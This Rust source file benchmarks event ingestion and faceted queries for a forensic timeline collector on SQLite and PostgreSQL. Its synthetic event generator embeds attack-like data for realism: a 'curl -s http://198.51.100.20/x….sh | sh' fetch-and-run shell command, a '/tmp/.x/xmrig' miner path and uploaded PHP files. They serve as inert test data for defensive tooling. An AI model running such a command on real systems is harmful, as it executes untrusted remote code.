//! The timeline engine under load, for `cargo xtask bench timeline`: ingest N synthetic events
//! through the same metadata store the collector uses (`TimelineStore::insert_timeline`),
//! against a plain bulk INSERT of the same rows into an index-less table (the baseline), then
//! time faceted queries.
//!
//! An example of the collector crate, built with `--release`, so that the figures are those of
//! optimised code and nothing of it ships in the collector binary.
//! `bench_timeline --dir DIR [--events N]` prints one JSON object.
//! `bench_timeline --database postgres://… [--events N]` does the same on PostgreSQL: the
//! collector's `Postgres` store (binary COPY into staging, then the deduplicating insert)
//! against a plain binary `COPY … FROM STDIN` of the same rows into an index-less table of the
//! same database; the JSON has `"backend": "postgres"`.
//! `bench_timeline --fill DB [--events N]` only fills a collector's database with the same
//! events and their 20 hosts (`web-00`…`web-19`), for `cargo xtask bench console`.

use anyhow::{bail, Context, Result};
use cairn_collector::storage::postgres::Postgres;
use cairn_collector::storage::sqlite::Sqlite;
use cairn_collector::storage::{HostStore, MetadataStore, TimelineStore};
use cairn_collector::timeline::{dedup_key, query, Event, Filter};
use rusqlite::params;
use serde_json::{json, Value};
use std::path::Path;
use std::time::{Duration, Instant};

/// Events per insert call: what a busy live stream batch or a large log file gives.
const BATCH: usize = 10_000;
const HOSTS: usize = 20;
const DAY_NS: i64 = 86_400_000_000_000;
/// 2026-11-28T00:00:00Z
const BASE_NS: i64 = 1_795_824_000_000_000_000;

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*: deterministic, fast, good enough to vary synthetic fields.
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[(self.next() % xs.len() as u64) as usize]
    }
}

fn host_id(i: usize) -> String {
    format!("5f0c2a7e-1b3d-4c5e-8f90-{i:012x}")
}

/// One batch of realistic events for one host, times increasing from `start_ns`.
fn batch(rng: &mut Rng, seq: u64, start_ns: i64, step_ns: i64) -> Vec<Event> {
    const USERS: &[&str] = &["0", "1000", "alice", "bob", "ubuntu", "ec2-user", "33"];
    const EXES: &[&str] = &[
        "/usr/bin/curl",
        "/bin/sh",
        "/usr/bin/python3",
        "/usr/sbin/sshd",
        "/usr/bin/sudo",
        "/tmp/.x/xmrig",
        "/usr/bin/apt-get",
    ];
    let mut out = Vec::with_capacity(BATCH);
    for j in 0..BATCH {
        let r = rng.next();
        let t = start_ns + j as i64 * step_ns + (r % 1000) as i64;
        let user = rng.pick(USERS).to_string();
        let container = (r % 10 < 3).then(|| format!("{:012x}{:052x}", (r >> 8) % 50, 7));
        let mut e = match r % 20 {
            0..=11 => {
                let exe = rng.pick(EXES);
                let mut e = Event::new(
                    t,
                    "ebpf",
                    "process_exec",
                    format!("exec {exe} --flag value-{}", r % 9973),
                );
                e.exe = Some(exe.to_string());
                e.argv = Some(vec![
                    exe.to_string(),
                    "--flag".into(),
                    format!("value-{}", r % 9973),
                ]);
                e.pid = Some((r % 60_000) as i64 + 100);
                e.ppid = Some((r % 1000) as i64 + 1);
                e
            }
            12..=14 => Event::new(
                t,
                "ebpf",
                "tcp_connect",
                format!(
                    "/usr/bin/curl (pid {}) connect 10.0.1.17:{} -> 198.51.100.{}:443",
                    r % 60000,
                    30000 + r % 30000,
                    r % 250
                ),
            )
            .attr("dport", 443),
            15 | 16 => {
                let mut e = Event::new(
                    t,
                    "file",
                    "file_mtime",
                    format!(
                        "/var/www/html/upload-{}.php (Content Modification Time)",
                        r % 5000
                    ),
                );
                e.path = Some(format!("/var/www/html/upload-{}.php", r % 5000));
                e
            }
            17 => Event::new(
                t,
                "auth.log",
                "ssh_login",
                format!(
                    "sshd: Accepted publickey for {user} from 203.0.113.{} port {} ssh2",
                    r % 250,
                    40000 + r % 20000
                ),
            )
            .attr("src_ip", format!("203.0.113.{}", r % 250)),
            18 => Event::new(
                t,
                "auth.log",
                "sudo",
                format!(
                    "sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/id"
                ),
            )
            .attr("target_user", "root"),
            _ => Event::new(
                t,
                "bash_history",
                "shell_command",
                format!("curl -s http://198.51.100.20/x{}.sh | sh", r % 100),
            ),
        };
        e.user = Some(user);
        e.container = container;
        e.dedup = dedup_key(&[&seq.to_le_bytes(), &(j as u64).to_le_bytes()]);
        out.push(e);
    }
    out
}

/// The baseline: the same rows, one prepared INSERT per row in one transaction per batch,
/// into a table without indexes or dedup.
fn baseline_insert(conn: &mut rusqlite::Connection, host: &str, events: &[Event]) -> Result<()> {
    let tx = conn.transaction()?;
    {
        let mut st = tx.prepare_cached(
            "INSERT INTO plain(host_id, time_ns, source, kind, pid, ppid, exe, argv, user, container, pod, message, attrs, path, item_id, dedup)
             VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13, ?14, ?15, ?16)",
        )?;
        for e in events {
            let argv = e.argv.as_ref().map(serde_json::to_string).transpose()?;
            let attrs = (!e.attrs.is_empty())
                .then(|| serde_json::to_string(&e.attrs))
                .transpose()?;
            st.execute(params![
                host,
                e.time_ns,
                e.source,
                e.kind,
                e.pid,
                e.ppid,
                e.exe,
                argv,
                e.user,
                e.container,
                e.pod,
                e.message,
                attrs,
                e.path,
                Option::<String>::None,
                e.dedup
            ])?;
        }
    }
    tx.commit()?;
    Ok(())
}

fn percentile(sorted: &[Duration], p: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    let i = ((sorted.len() as f64 - 1.0) * p).round() as usize;
    sorted[i].as_secs_f64() * 1000.0
}

fn timed_queries(
    db: &dyn MetadataStore,
    n: usize,
    mut make: impl FnMut(usize) -> Filter,
) -> Result<(f64, f64, u64)> {
    let mut times = Vec::with_capacity(n);
    let mut matched = 0;
    for i in 0..n {
        let f = make(i);
        let start = Instant::now();
        let (rows, _) = query::page(db, &f, None, 100)?;
        let fc = query::facets(db, &f)?;
        times.push(start.elapsed());
        matched += fc.total;
        std::hint::black_box(rows);
    }
    times.sort();
    Ok((
        percentile(&times, 0.5),
        percentile(&times, 0.99),
        matched / n.max(1) as u64,
    ))
}

/// Run the benchmark in `dir` (two SQLite files are made there) and report as JSON.
fn run(dir: &Path, events: u64, progress: bool) -> Result<Value> {
    std::fs::create_dir_all(dir)?;
    let db = Sqlite::open(&dir.join("cairn.db"))?;
    let mut plain = rusqlite::Connection::open(dir.join("baseline.db"))?;
    plain.execute_batch(
        "PRAGMA page_size=16384; PRAGMA journal_mode=WAL; PRAGMA synchronous=NORMAL; PRAGMA cache_size=-262144; PRAGMA wal_autocheckpoint=4096;
         CREATE TABLE plain(host_id TEXT, time_ns INTEGER, source TEXT, kind TEXT, pid INTEGER, ppid INTEGER, exe TEXT, argv TEXT,
         user TEXT, container TEXT, pod TEXT, message TEXT, attrs TEXT, path TEXT, item_id TEXT, dedup INTEGER);",
    )?;
    let batches = (events as usize).div_ceil(BATCH);
    // Every host's batches cover the whole day: batch b is host b % HOSTS in slot b / HOSTS.
    let slots = batches.div_ceil(HOSTS);
    let slot_ns = DAY_NS / slots as i64;
    let step = slot_ns / BATCH as i64;
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let (mut cairn_t, mut plain_t) = (Duration::ZERO, Duration::ZERO);
    let mut stored = 0usize;
    for b in 0..batches {
        let host = host_id(b % HOSTS);
        let evs = batch(
            &mut rng,
            b as u64,
            BASE_NS + (b / HOSTS) as i64 * slot_ns,
            step,
        );
        let t = Instant::now();
        stored += db.insert_timeline(&host, None, &evs)?;
        cairn_t += t.elapsed();
        let t = Instant::now();
        baseline_insert(&mut plain, &host, &evs)?;
        plain_t += t.elapsed();
        if progress && b % 100 == 99 {
            eprintln!("  {} / {} events", (b + 1) * BATCH, batches * BATCH);
        }
    }
    let total = (batches * BATCH) as f64;
    let cairn_rate = total / cairn_t.as_secs_f64();
    let plain_rate = total / plain_t.as_secs_f64();
    let mut out = json!({
        "backend": "sqlite",
        "events": total as u64,
        "stored": stored,
        "cairn_events_per_s": cairn_rate,
        "baseline_events_per_s": plain_rate,
        "ratio": cairn_rate / plain_rate,
        "db_bytes": std::fs::metadata(dir.join("cairn.db"))?.len(),
    });
    queries(&db, &mut out)?;
    Ok(out)
}

/// The faceted queries, timed, added to `out`.
fn queries(db: &dyn MetadataStore, out: &mut Value) -> Result<()> {
    // Queries: one host, a one-hour window (what an analyst opens first).
    let mut rng = Rng(42);
    let hour = DAY_NS / 24;
    let host_hour = timed_queries(db, 200, |_| {
        with_window(
            Filter {
                host_ids: vec![host_id((rng.next() % HOSTS as u64) as usize)],
                from_ns: Some(BASE_NS + (rng.next() % 23) as i64 * hour),
                to_ns: None,
                ..Default::default()
            },
            hour,
        )
    })?;
    // Every host, the whole day, one kind: a fleet-wide hunt.
    let fleet_kind = timed_queries(db, 20, |i| Filter {
        kinds: vec![["ssh_login", "sudo"][i % 2].to_string()],
        ..Default::default()
    })?;
    // Every host, the whole day, a free-text search.
    let fleet_text = timed_queries(db, 5, |_| Filter {
        text: Some("xmrig".into()),
        ..Default::default()
    })?;
    let q = |(p50, p99, matched): (f64, f64, u64)| json!({"p50_ms": p50, "p99_ms": p99, "rows_matched_avg": matched});
    out["query_host_hour"] = q(host_hour);
    out["query_fleet_kind"] = q(fleet_kind);
    out["query_fleet_text"] = q(fleet_text);
    Ok(())
}

/// The baseline on PostgreSQL: the same rows by one binary `COPY … FROM STDIN` per batch, in
/// one transaction per batch, into a table without indexes, dedup or host numbering.
fn baseline_copy(c: &mut postgres::Client, host: &str, events: &[Event]) -> Result<()> {
    use postgres::binary_copy::BinaryCopyInWriter;
    use postgres::types::Type;
    const TYPES: &[Type] = &[
        Type::TEXT,
        Type::INT8,
        Type::TEXT,
        Type::TEXT,
        Type::INT8,
        Type::INT8,
        Type::TEXT,
        Type::TEXT,
        Type::TEXT,
        Type::TEXT,
        Type::TEXT,
        Type::TEXT,
        Type::TEXT,
        Type::TEXT,
        Type::TEXT,
        Type::INT8,
    ];
    let mut tx = c.transaction()?;
    let sink = tx.copy_in(
        "COPY plain(host_id, time_ns, source, kind, pid, ppid, exe, argv, \"user\", container, pod, message, attrs, path, item_id, dedup)
         FROM STDIN (FORMAT binary)",
    )?;
    let mut w = BinaryCopyInWriter::new(sink, TYPES);
    for e in events {
        let argv = e.argv.as_ref().map(serde_json::to_string).transpose()?;
        let attrs = (!e.attrs.is_empty())
            .then(|| serde_json::to_string(&e.attrs))
            .transpose()?;
        w.write(&[
            &host,
            &e.time_ns,
            &e.source,
            &e.kind,
            &e.pid,
            &e.ppid,
            &e.exe,
            &argv,
            &e.user,
            &e.container,
            &e.pod,
            &e.message,
            &attrs,
            &e.path,
            &Option::<String>::None,
            &e.dedup,
        ])?;
    }
    w.finish()?;
    tx.commit()?;
    Ok(())
}

/// The benchmark on the PostgreSQL database at `url` (its `timeline` must be empty).
fn run_postgres(url: &str, events: u64, progress: bool) -> Result<Value> {
    let db = Postgres::connect(url)?;
    let mut plain = postgres::Client::connect(url, postgres::NoTls)?;
    plain.batch_execute(
        "DROP TABLE IF EXISTS plain;
         CREATE TABLE plain(host_id TEXT, time_ns BIGINT, source TEXT, kind TEXT, pid BIGINT, ppid BIGINT, exe TEXT, argv TEXT,
         \"user\" TEXT, container TEXT, pod TEXT, message TEXT, attrs TEXT, path TEXT, item_id TEXT, dedup BIGINT);",
    )?;
    let batches = (events as usize).div_ceil(BATCH);
    let slots = batches.div_ceil(HOSTS);
    let slot_ns = DAY_NS / slots as i64;
    let step = slot_ns / BATCH as i64;
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let (mut cairn_t, mut plain_t) = (Duration::ZERO, Duration::ZERO);
    let mut stored = 0usize;
    for b in 0..batches {
        let host = host_id(b % HOSTS);
        let evs = batch(
            &mut rng,
            b as u64,
            BASE_NS + (b / HOSTS) as i64 * slot_ns,
            step,
        );
        let t = Instant::now();
        stored += db.insert_timeline(&host, None, &evs)?;
        cairn_t += t.elapsed();
        let t = Instant::now();
        baseline_copy(&mut plain, &host, &evs)?;
        plain_t += t.elapsed();
        if progress && b % 100 == 99 {
            eprintln!("  {} / {} events", (b + 1) * BATCH, batches * BATCH);
        }
    }
    let total = (batches * BATCH) as f64;
    let cairn_rate = total / cairn_t.as_secs_f64();
    let plain_rate = total / plain_t.as_secs_f64();
    // What autovacuum would have done by the time an analyst looks: planner statistics.
    plain.batch_execute("ANALYZE timeline")?;
    let version: String = plain.query_one("SHOW server_version", &[])?.get(0);
    let mut size = |rel: &str| -> Result<u64> {
        let n: i64 = plain
            .query_one("SELECT pg_total_relation_size($1::text::regclass)", &[&rel])?
            .get(0);
        Ok(n as u64)
    };
    let mut out = json!({
        "backend": "postgres",
        "server_version": version,
        "events": total as u64,
        "stored": stored,
        "cairn_events_per_s": cairn_rate,
        "baseline_events_per_s": plain_rate,
        "ratio": cairn_rate / plain_rate,
        "db_bytes": size("timeline")?,
        "baseline_bytes": size("plain")?,
    });
    plain.batch_execute("DROP TABLE plain")?;
    queries(&db, &mut out)?;
    Ok(out)
}

/// Fill a collector's database (made by `cairn-collector init`) with the benchmark's events.
fn fill(db_path: &Path, events: u64) -> Result<Value> {
    let db = Sqlite::open(db_path)?;
    for h in 0..HOSTS {
        db.insert_enrolled_host(&host_id(h), &format!("web-{h:02}"), &format!("bench-{h}"))?;
    }
    let batches = (events as usize).div_ceil(BATCH);
    let slots = batches.div_ceil(HOSTS);
    let slot_ns = DAY_NS / slots as i64;
    let step = slot_ns / BATCH as i64;
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let mut stored = 0usize;
    for b in 0..batches {
        let evs = batch(
            &mut rng,
            b as u64,
            BASE_NS + (b / HOSTS) as i64 * slot_ns,
            step,
        );
        stored += db.insert_timeline(&host_id(b % HOSTS), None, &evs)?;
        if b % 100 == 99 {
            eprintln!("  {} / {} events", (b + 1) * BATCH, batches * BATCH);
        }
    }
    Ok(
        json!({"events": (batches * BATCH) as u64, "stored": stored, "hosts": HOSTS,
              "from_ns": BASE_NS, "to_ns": BASE_NS + DAY_NS}),
    )
}

fn with_window(mut f: Filter, len: i64) -> Filter {
    f.to_ns = f.from_ns.map(|from| from + len);
    f
}

fn main() -> Result<()> {
    let mut dir = None;
    let mut fill_db = None;
    let mut database = None;
    let mut events = 10_000_000u64;
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--dir" => dir = args.next().map(std::path::PathBuf::from),
            "--fill" => fill_db = args.next().map(std::path::PathBuf::from),
            "--database" => database = Some(args.next().context("--database needs a URL")?),
            "--events" => {
                events = args
                    .next()
                    .context("--events needs a number")?
                    .parse()
                    .context("--events needs a number")?
            }
            other => {
                bail!("unknown argument {other:?}; usage: bench_timeline (--dir DIR | --database URL) [--events N]")
            }
        }
    }
    if let Some(db) = fill_db {
        println!("{}", fill(&db, events)?);
        return Ok(());
    }
    if let Some(url) = database {
        println!("{}", run_postgres(&url, events, true)?);
        return Ok(());
    }
    let dir = dir.context("usage: bench_timeline (--dir DIR | --database URL) [--events N]")?;
    println!("{}", run(&dir, events, true)?);
    Ok(())
}
